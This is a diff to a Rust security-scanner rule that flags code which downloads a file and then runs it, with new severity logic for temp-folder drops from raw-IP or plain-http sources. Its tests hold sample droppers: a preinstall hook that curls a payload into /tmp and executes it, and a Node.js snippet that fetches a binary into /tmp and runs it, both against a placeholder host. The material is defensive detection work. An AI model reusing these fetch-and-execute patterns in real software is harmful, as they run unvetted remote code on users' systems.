@@ -8,7 +8,9 @@ declare_rule! {
     /// Finds code and scripts that download a file and then run it: a network
     /// response written or piped to a file that a later command starts, or a
     /// shell script that fetches with `curl -o`/`wget -O`/`certutil` and
-    /// then runs the result. Critical at install; high at run time.
+    /// then runs the result. Critical at install, and at run time when the
+    /// file lands in a temporary folder from a computed, raw-IP or plain
+    /// `http://` source; high otherwise (tools fetch their own binaries).
     ///
     /// ## Why is this bad?
     /// The program that runs is whatever the server sends that day; nothing in
@@ -60,6 +62,37 @@ fn shell_download_target(cmd: &str) -> Option<&str> {
         return words.last().copied();
     }
     None
+}
+
+/// A run-time download that is a dropper rather than a tool fetching its
+/// binary: saved into a temporary folder, from a server the code does not
+/// name (its host computed, a raw IP) or over plain `http://`.
+fn hidden_drop(ctx: &ScanContext<'_>, name: &str, dl: &palisade_diagnostics::Fact) -> bool {
+    let in_temp = ctx.facts.other.iter().any(|o| {
+        o.kind == "download-to-file"
+            && o.at.location.path == dl.location.path
+            && basename(&o.detail).eq_ignore_ascii_case(name)
+            && {
+                let d = o.detail.to_ascii_lowercase();
+                d.starts_with("/tmp/")
+                    || d.starts_with("/var/tmp/")
+                    || d.starts_with("/dev/shm/")
+                    || d.contains("\\temp\\")
+                    || d.contains("\\appdata\\local\\temp")
+                    || d.starts_with("c:\\users\\public\\")
+            }
+    });
+    in_temp
+        && ctx.facts.network.iter().any(|n| {
+            n.api.is_some()
+                && n.at.location.path == dl.location.path
+                && n.destination.as_deref().is_some_and(|d| {
+                    d.starts_with("http://")
+                        || n.host.is_none()
+                        || n.host_kind
+                            .is_some_and(|k| k != palisade_diagnostics::HostKind::Domain)
+                })
+        })
 }
 
 impl Rule for DownloadAndRun {
@@ -156,7 +189,7 @@ impl Rule for DownloadAndRun {
                     continue;
                 }
                 let install = at.install_time || dl.install_time;
-                let severity = if install {
+                let severity = if install || hidden_drop(ctx, name, dl) {
                     Severity::Critical
                 } else {
                     Severity::High
@@ -191,6 +224,9 @@ mod tests {
                     ("package.json", r#"{"name":"a","scripts":{"preinstall":"sh setup.sh"}}"#),
                     ("setup.sh", "curl http://x.invalid/payload -o /tmp/payload\nchmod +x /tmp/payload\n/tmp/payload\n"),
                 ]),
+                Case::Js(
+                    "const http = require('http'), fs = require('fs'), cp = require('child_process');\nhttp.get('https://x.invalid/bin', (res) => {\n  res.pipe(fs.createWriteStream('./bin/tool'));\n  res.on('end', () => cp.execFile('./bin/tool', ['--version']));\n});",
+                ),
                 Case::Js(
                     "const http = require('http'), fs = require('fs'), cp = require('child_process');\nhttp.get('http://x.invalid/bin', (res) => {\n  res.pipe(fs.createWriteStream('/tmp/glomus'));\n  res.on('end', () => cp.exec('/tmp/glomus'));\n});",
                 ),
